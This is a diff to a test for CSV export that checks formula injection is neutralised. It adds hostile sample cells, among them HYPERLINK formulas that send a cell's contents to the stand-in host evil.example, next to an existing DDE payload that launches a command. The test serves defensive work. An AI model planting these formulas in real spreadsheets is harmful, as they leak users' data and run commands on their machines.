@@ -119,6 +119,10 @@ describe('formula injection round trip: stored as text, neutralised by the CSV e
     '-2+3',
     "@cmd|' /C calc'!A0",
     '\t=1+1',
+    ' =HYPERLINK("https://evil.example/?q="&A1,"Open")',
+    '\n=1+1',
+    '＝HYPERLINK("https://evil.example")',
+    '\r\n@SUM(1)',
   ];
 
   it('a backup whose text fields hold formulas restores, and every exported cell is inert', async () => {
@@ -127,7 +131,8 @@ describe('formula injection round trip: stored as text, neutralised by the CSV e
     scores.forEach((score, index) => {
       const formula = FORMULAS[index % FORMULAS.length]!;
       score.answers[0]!.evidence = formula;
-      score.deal.name.text = formula;
+      // Six scores, more formulas: the deal names carry the ones the evidence does not reach.
+      score.deal.name.text = FORMULAS[(index + 6) % FORMULAS.length]!;
       score.deal.stage.text = formula;
     });
     scores[0]!.band.label = FORMULAS[0]!;
@@ -144,7 +149,13 @@ describe('formula injection round trip: stored as text, neutralised by the CSV e
     if (!parsed.ok) throw new Error(parsed.error.message);
     const cells = parsed.value.slice(1).flatMap((record) => record.fields);
     for (const formula of FORMULAS) expect(cells).toContain(`'${formula}`);
-    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    // No text cell starts (or, after white space, continues) like a formula, full-width forms included.
+    const numeric = new Set(['level', 'total']);
+    const header = parsed.value[0]!.fields;
+    const textCells = parsed.value
+      .slice(1)
+      .flatMap((record) => record.fields.filter((_cell, i) => !numeric.has(header[i]!)));
+    expect(textCells.filter((cell) => /^\s*[=+\-@＝＋－＠]/.test(cell))).toEqual([]);
     db.close();
   });
 
